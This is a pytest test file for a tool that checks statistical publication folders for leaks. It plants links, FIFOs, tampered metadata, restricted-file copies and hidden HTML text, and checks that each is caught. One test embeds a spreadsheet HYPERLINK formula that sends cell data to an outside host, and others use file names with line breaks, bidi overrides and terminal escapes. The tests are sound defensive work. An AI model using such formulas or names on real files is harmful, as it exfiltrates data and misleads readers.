"""The publication check cannot be fooled by its own input (issue 24, item 3).

A folder to publish holds plain files and folders only: a symbolic link (to a file or to
the restricted folder), a hard link, a FIFO, a socket or a device is a named finding
(each planted into a copy of a clean appendix), and the check never reads through a link
or opens a FIFO. The suppression threshold and protection width come from the cycle's
parameter file or the command line, never only from the ``metadata.json`` being checked:
metadata stating other values is a finding.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import stat
from pathlib import Path

import pytest
import yaml

from kentaudit.cli import main
from kentaudit.publication.check.folder import KINDS, check_publication

ROOT = Path(__file__).resolve().parents[2]

#: the check's attack is computed once per distinct published CSVs and metadata (most faults here
#: are planted elsewhere in a copy of one appendix): tests/conftest.py, attack_once_per_input
pytestmark = pytest.mark.usefixtures("attack_once_per_input")


@pytest.fixture(scope="module")
def built(fake_appendix):
    return fake_appendix.result


def kinds(findings):
    return {f.kind for f in findings}


def test_new_kinds_are_declared():
    assert {"link", "special_file", "metadata"} <= set(KINDS)


def test_the_clean_copy_passes(fake_pub):
    assert check_publication(fake_pub, threshold=5, width=3) == []


# ------------------------------------------------------------------ links
def test_a_link_to_the_restricted_folder_is_a_finding_and_is_not_followed(built, fake_pub):
    (fake_pub / "extra").symlink_to(built.restricted_dir, target_is_directory=True)
    f = check_publication(fake_pub, restricted_dir=built.restricted_dir)
    assert [(x.file, x.kind) for x in f] == [("extra", "link")]
    assert str(built.restricted_dir) in f[0].detail and "a folder" in f[0].detail


def test_a_relative_folder_link_as_in_the_issue_is_a_finding(tmp_path):
    (tmp_path / "restricted").mkdir()
    (tmp_path / "restricted" / "audits.csv").write_text("audit_id,n\nA1,3\n")
    pub = tmp_path / "publish"
    pub.mkdir()
    (pub / "extra").symlink_to("../restricted")
    f = check_publication(pub)
    assert [(x.file, x.kind) for x in f] == [("extra", "link")]
    assert "'../restricted'" in f[0].detail


def test_a_link_to_a_file_is_a_finding(fake_pub, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("case_ref\nSYN-0000001\n")
    (fake_pub / "csv" / "T99.csv").symlink_to(secret)
    f = check_publication(fake_pub)
    assert [(x.file, x.kind) for x in f] == [("csv/T99.csv", "link")]
    assert "a file" in f[0].detail


def test_a_broken_link_is_a_finding(fake_pub):
    (fake_pub / "gone.csv").symlink_to(fake_pub / "no-such-file.csv")
    f = check_publication(fake_pub)
    assert [(x.file, x.kind) for x in f] == [("gone.csv", "link")]
    assert "broken" in f[0].detail


def test_a_link_in_a_subfolder_is_found(fake_pub, tmp_path):
    (fake_pub / "figures" / "deep").mkdir(parents=True, exist_ok=True)
    (fake_pub / "figures" / "deep" / "up").symlink_to(tmp_path, target_is_directory=True)
    assert [(x.file, x.kind) for x in check_publication(fake_pub)] == [("figures/deep/up", "link")]


def test_a_hard_linked_file_is_a_finding(fake_pub, tmp_path):
    os.link(fake_pub / "appendix.html", tmp_path / "other-name.html")
    f = check_publication(fake_pub)
    assert [(x.file, x.kind) for x in f] == [("appendix.html", "link")]
    assert "2 names" in f[0].detail


# ------------------------------------------------------------------ special files
def test_a_fifo_is_a_finding_and_is_never_opened(fake_pub):
    # opening a FIFO for reading blocks until a writer comes: the check returning at all
    # shows it was not opened
    os.mkfifo(fake_pub / "csv" / "T1.csv.pipe")
    os.mkfifo(fake_pub / "csv" / "metadata2.json")
    f = check_publication(fake_pub)
    assert {(x.file, x.kind) for x in f} == {("csv/T1.csv.pipe", "special_file"),
                                             ("csv/metadata2.json", "special_file")}
    assert all("FIFO" in x.detail for x in f)


def test_a_fifo_in_place_of_the_metadata_does_not_block(fake_pub):
    (fake_pub / "csv" / "metadata.json").unlink()
    os.mkfifo(fake_pub / "csv" / "metadata.json")
    assert [(x.file, x.kind) for x in check_publication(fake_pub)] == [("csv/metadata.json", "special_file")]


def test_a_socket_is_a_finding(fake_pub, monkeypatch):
    monkeypatch.chdir(fake_pub)  # a relative name: a socket path is limited to 108 bytes
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind("sock")
        f = check_publication(fake_pub)
    finally:
        s.close()
    assert [(x.file, x.kind) for x in f] == [("sock", "special_file")]
    assert "socket" in f[0].detail


@pytest.mark.parametrize("mode,what", [(stat.S_IFCHR, "character device"), (stat.S_IFBLK, "block device")])
def test_a_device_is_a_finding(fake_pub, mode, what):
    try:
        os.mknod(fake_pub / "dev", 0o600 | mode, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device needs CAP_MKNOD")
    f = check_publication(fake_pub)
    assert [(x.file, x.kind) for x in f] == [("dev", "special_file")]
    assert what in f[0].detail


# ------------------------------------------------------------------ threshold and width
def _set_disclosure(fake_pub, **values):
    mf = fake_pub / "csv" / "metadata.json"
    meta = json.loads(mf.read_text(encoding="utf-8"))
    meta["disclosure"].update(values)
    mf.write_text(json.dumps(meta), encoding="utf-8")


def test_metadata_edited_to_width_0_is_a_finding(fake_pub):
    _set_disclosure(fake_pub, protection_width=0)
    f = check_publication(fake_pub, threshold=5, width=3)
    assert [(x.file, x.location, x.kind) for x in f] == [
        ("csv/metadata.json", "disclosure.protection_width", "metadata")]
    assert "states protection width 0" in f[0].detail and "checked with 3" in f[0].detail


def test_metadata_edited_threshold_is_a_finding(fake_pub):
    _set_disclosure(fake_pub, threshold=0)
    f = check_publication(fake_pub, threshold=5, width=3)
    assert [(x.location, x.kind) for x in f] == [("disclosure.threshold", "metadata")]


def test_width_defaults_to_the_parameter_files_default_not_the_metadata(fake_pub):
    # with no width given the check uses 3 (a parameter file's default), so metadata
    # stating 0 cannot lower it
    _set_disclosure(fake_pub, protection_width=0)
    assert "metadata" in kinds(check_publication(fake_pub))


def test_a_wider_width_than_the_appendix_was_protected_with_is_found(fake_pub):
    # the cycle asks for width 4; the appendix was protected with 3: the metadata says so
    assert "metadata" in kinds(check_publication(fake_pub, threshold=5, width=4))


def _params_file(tmp_path, **change) -> Path:
    doc = yaml.safe_load((ROOT / "params" / "cycle-2009.yaml").read_text(encoding="utf-8"))
    doc["inputs"] = {"audits": [str(ROOT / "data" / "synthetic" / "audits_2009.csv")]}
    doc["output_dir"] = str(tmp_path / "outputs")
    doc.update(change)
    p = tmp_path / "cycle.yaml"
    p.write_text(yaml.safe_dump(doc), encoding="utf-8")
    return p


def test_cli_takes_threshold_and_width_from_params(fake_pub, tmp_path, capsys):
    assert main(["check-publication", str(fake_pub), "--params", str(_params_file(tmp_path))]) == 0
    out = capsys.readouterr().out
    assert "suppression threshold 5 and protection width 3 (from " in out and "is clean" in out
    # a cycle whose parameter file asks for width 4: this appendix was not protected so
    assert main(["check-publication", str(fake_pub), "--params",
                 str(_params_file(tmp_path, protection_width=4))]) == 1
    assert "metadata: states protection width 3" in capsys.readouterr().out


def test_cli_command_line_values_win_over_params(fake_pub, tmp_path, capsys):
    p = _params_file(tmp_path, suppression_threshold=6)  # the appendix was protected with 5
    assert main(["check-publication", str(fake_pub), "--params", str(p)]) == 1
    assert "metadata: states suppression threshold 5, but the cycle's is 6" in capsys.readouterr().out
    assert main(["check-publication", str(fake_pub), "--params", str(p), "--threshold", "5"]) == 0
    assert "threshold 5 and protection width 3 (--threshold/--width given on the command line" in \
        capsys.readouterr().out


def test_a_fifo_beside_the_folder_in_another_release_is_a_finding_not_a_hang(fake_pub):
    # the command line attacks the other cycles' publish/ folders beside the one checked:
    # one whose metadata is a FIFO is never read, and a link in another is named
    other = fake_pub.parents[1] / "2013" / "publish" / "csv"
    other.mkdir(parents=True)
    os.mkfifo(other / "metadata.json")
    third = fake_pub.parents[1] / "2011" / "publish"
    shutil.copytree(fake_pub, third)
    (third / "extra").symlink_to(fake_pub.parents[1], target_is_directory=True)
    from kentaudit.publication.check.folder import programme_releases
    earlier = programme_releases(fake_pub)
    assert earlier == [third]
    f = check_publication(fake_pub, earlier=earlier)
    assert [(x.file, x.kind) for x in f] == [(f"{third}/extra", "link")]


def test_cli_refuses_a_link_with_exit_1(built, fake_pub, capsys):
    (fake_pub / "extra").symlink_to(built.restricted_dir, target_is_directory=True)
    assert main(["check-publication", str(fake_pub), "--restricted", str(built.restricted_dir)]) == 1
    out = capsys.readouterr().out
    assert "extra [-] link: a symbolic link" in out and "1 finding(s)" in out


@pytest.mark.parametrize("name", ["ok.csv\nT1.csv", "ok\r.csv", "T\u202e1.csv", "ok\x1b[2K.csv"])
def test_a_file_name_with_a_line_break_or_control_is_reported_on_one_line_as_code_points(built, fake_pub, capsys,
                                                                                        name):
    # a copied restricted table named 'ok.csv\nT1.csv' printed its findings as if T1.csv had them
    shutil.copy(next(built.restricted_dir.rglob("*.csv")), fake_pub / "csv" / name)
    assert main(["check-publication", str(fake_pub)]) == 1
    out = capsys.readouterr().out
    lines = [ln for ln in out.splitlines() if ln.startswith("csv/ok") or ln.startswith("csv/T<U+202E>")]
    assert lines and all("] " in ln for ln in lines)
    bad = next(c for c in name if not c.isprintable())
    assert f"<U+{ord(bad):04X}>" in out and name not in out


# ------------------------------------------------------------------ broken copies
def test_a_zero_byte_table_is_an_unreadable_finding_not_an_internal_error(fake_pub, capsys):
    # a truncated copy of a published CSV: the attack and the figure checks, which read every
    # table, skip it; the check names it and fails (exit 1), never exit 70
    (fake_pub / "csv" / "T3.csv").write_bytes(b"")
    f = check_publication(fake_pub, threshold=5, width=3)
    assert [(x.file, x.kind) for x in f] == [("csv/T3.csv", "unreadable")]
    assert main(["check-publication", str(fake_pub), "--threshold", "5", "--width", "3"]) == 1
    assert "csv/T3.csv" in capsys.readouterr().out


@pytest.mark.parametrize("text", ["", "{", "[]", '{"universe": {"cycles": 5}, "tables": 3}',
                                  '{"universe": {"cycles": 5}, "tables": []}'])
def test_metadata_that_cannot_be_read_is_a_finding_never_clean(fake_pub, text):
    # emptied, truncated or reshaped metadata.json: the tables cannot be checked against it or
    # attacked, so the release is not shown safe (it was "clean" when empty, exit 70 when reshaped)
    (fake_pub / "csv" / "metadata.json").write_text(text, encoding="utf-8")
    f = check_publication(fake_pub, threshold=5, width=3)
    assert ("csv/metadata.json", "unreadable") in [(x.file, x.kind) for x in f]


def _with_units(release: Path, change) -> None:
    m = release / "csv" / "metadata.json"
    meta = json.loads(m.read_text(encoding="utf-8"))
    change(meta["universe"]["districts"])
    m.write_text(json.dumps(meta), encoding="utf-8")


def test_only_releases_about_the_same_units_are_combined_as_other_releases(fake_pub, capsys):
    # check-publication attacked every sibling */publish as the programme's other releases,
    # another authority's included; a release is of the programme when it is about the same
    # units, each in the same area (metadata universe.districts)
    from kentaudit.publication.check.folder import programme_releases, sibling_releases
    out = fake_pub.parents[1]
    related = out / "2011" / "publish"
    shutil.copytree(fake_pub, related)
    other_authority = out / "2012" / "publish"
    shutil.copytree(fake_pub, other_authority)
    _with_units(other_authority, lambda d: [d.update({f"Elsewhere {k}": d.pop(k)}) for k in list(d)])
    restructured = out / "2013" / "publish"
    shutil.copytree(fake_pub, restructured)
    _with_units(restructured, lambda d: d.update({k: "Merged" for k in list(d)[:2]}))
    assert programme_releases(fake_pub) == [related]
    assert sibling_releases(fake_pub) == ([related], [other_authority, restructured])
    assert main(["check-publication", str(fake_pub)]) == 0
    text = capsys.readouterr().out
    assert f"attacked with the programme's other releases: {related}" in text
    assert f"not combined (other units or areas, or unreadable metadata: not this programme's releases): " \
           f"{other_authority}, {restructured}" in text


# ------------------------------------------------------------------ files that are not what they say
# (issue 24, a second corpus: each passed as "clean" before)
def _first_html(pub: Path) -> Path:
    return sorted(pub.rglob("*.html"))[0]


def _restricted_csv(built) -> Path:
    return sorted(Path(built.restricted_dir).rglob("*.csv"))[0]


@pytest.mark.parametrize("plant", ["csv_named_png", "dot_file", "restricted_copy_renamed", "zip_named_pdf",
                                   "text_named_xlsx", "binary_named_txt"])
def test_a_file_that_is_not_what_its_name_says_is_a_finding(built, fake_pub, plant):
    src = _restricted_csv(built)
    if plant == "csv_named_png":  # a .png was never opened: restricted rows passed unread
        shutil.copy(src, fake_pub / "figures" / "extra.png")
        where = "figures/extra.png"
    elif plant == "dot_file":
        (fake_pub / "csv" / ".notes.csv").write_text("a,b\nx,y\n", encoding="utf-8")
        where = "csv/.notes.csv"
    elif plant == "restricted_copy_renamed":
        shutil.copy(src, fake_pub / "csv" / "T99.csv")
        where = "csv/T99.csv"
    elif plant == "zip_named_pdf":
        shutil.copy(next(fake_pub.rglob("*.xlsx")), fake_pub / "extra.pdf")
        where = "extra.pdf"
    elif plant == "text_named_xlsx":
        (fake_pub / "extra.xlsx").write_text("area,n\nNorth,3\n", encoding="utf-8")
        where = "extra.xlsx"
    else:
        (fake_pub / "notes.txt").write_bytes(b"\x00\x01binary\x00")
        where = "notes.txt"
    f = check_publication(fake_pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
    assert (where, "unexpected_file") in [(x.file, x.kind) for x in f], [str(x) for x in f]


def test_formula_text_in_a_published_csv_is_a_finding(fake_pub):
    t = sorted((fake_pub / "csv").glob("T*.csv"))[0]
    lines = t.read_text(encoding="utf-8").splitlines()
    lines[1] = '"=HYPERLINK(""http://example.org/?""&B2,""x"")",' + lines[1].split(",", 1)[1]
    t.write_text("\n".join(lines) + "\n", encoding="utf-8")
    f = check_publication(fake_pub, threshold=5, width=3)
    assert [(x.file, x.location, x.kind) for x in f if x.kind == "unexpected_file"] == \
        [(f"csv/{t.name}", "line 2", "unexpected_file")]
    assert "formula" in next(x.detail for x in f if x.kind == "unexpected_file")


@pytest.mark.parametrize("edit,says", [
    (lambda t: t.replace("</body>", "<!-- 3 -->\n</body>"), "HTML comment"),
    (lambda t: t.replace("<td", '<td data-n="2"', 1), "data-n"),
    (lambda t: t.replace("</main>", '<span hidden>2</span></main>'), "hidden"),
    (lambda t: t.replace("</main>", '<p style="display: none">2</p></main>'), "display: none"),
])
def test_html_text_no_reader_sees_is_a_finding(fake_pub, edit, says):
    h = _first_html(fake_pub)
    h.write_text(edit(h.read_text(encoding="utf-8")), encoding="utf-8")
    f = [x for x in check_publication(fake_pub, threshold=5, width=3) if x.kind == "unexpected_file"]
    assert len(f) == 1 and f[0].file == h.relative_to(fake_pub).as_posix() and says in f[0].detail


def test_metadata_without_its_disclosure_values_is_a_finding(fake_pub):
    m = fake_pub / "csv" / "metadata.json"
    meta = json.loads(m.read_text(encoding="utf-8"))
    meta.pop("disclosure")
    m.write_text(json.dumps(meta), encoding="utf-8")
    f = check_publication(fake_pub, threshold=5, width=3)
    assert {(x.location, x.kind) for x in f} >= {("disclosure.threshold", "metadata"),
                                                  ("disclosure.protection_width", "metadata")}


def test_metadata_naming_another_authority_than_the_cycles_is_a_finding(fake_pub):
    # the authority's label is read as a total of every record (its small counts are not
    # findings): an edited one could exempt a unit's row
    m = fake_pub / "csv" / "metadata.json"
    meta = json.loads(m.read_text(encoding="utf-8"))
    own = meta["universe"]["authority"]
    assert check_publication(fake_pub, threshold=5, width=3, authority=own) == []
    meta["universe"]["authority"] = "Elsewhere"
    m.write_text(json.dumps(meta), encoding="utf-8")
    f = check_publication(fake_pub, threshold=5, width=3, authority=own)
    assert [(x.location, x.kind) for x in f if x.kind == "metadata"] == [("universe.authority", "metadata")]
    assert "'Elsewhere'" in f[0].detail and repr(own) in f[0].detail


def test_a_release_of_another_authority_with_the_same_units_is_not_combined(fake_pub):
    # the attack combined siblings by their units alone: two authorities with units of the
    # same names and areas were read as one programme
    from kentaudit.publication.check.folder import sibling_releases
    out = fake_pub.parents[1]
    same_units = out / "2012" / "publish"
    shutil.copytree(fake_pub, same_units)
    m = same_units / "csv" / "metadata.json"
    meta = json.loads(m.read_text(encoding="utf-8"))
    meta["universe"]["authority"] = "Elsewhere"
    m.write_text(json.dumps(meta), encoding="utf-8")
    assert sibling_releases(fake_pub) == ([], [same_units])


# ------------------------------------------------------------------ restricted files published
def test_a_restricted_file_published_under_another_name_is_a_finding(built, fake_pub):
    audit = next(built.restricted_dir.glob("RESTRICTED_suppression_audit.csv"))
    shutil.copyfile(audit, fake_pub / "csv" / "T98.csv")
    f = check_publication(fake_pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
    hits = [x for x in f if x.file == "csv/T98.csv" and "the same bytes as a file of the restricted" in x.detail]
    assert hits, f


def test_a_table_that_hides_nothing_may_equal_its_own_unsuppressed_copy(built, fake_pub, tmp_path):
    """A published table with no hidden cell has the bytes of its restricted (unsuppressed) copy
    of the same table: that is no leak (a second authority's run was refused for it)."""
    restricted = tmp_path / "restricted"
    shutil.copytree(built.restricted_dir, restricted)
    shutil.copyfile(fake_pub / "csv" / "T1.csv", restricted / "RESTRICTED_T1.csv")
    f = check_publication(fake_pub, restricted_dir=restricted, threshold=5, width=3)
    assert not [x for x in f if "the same bytes as a file of the restricted" in x.detail], f
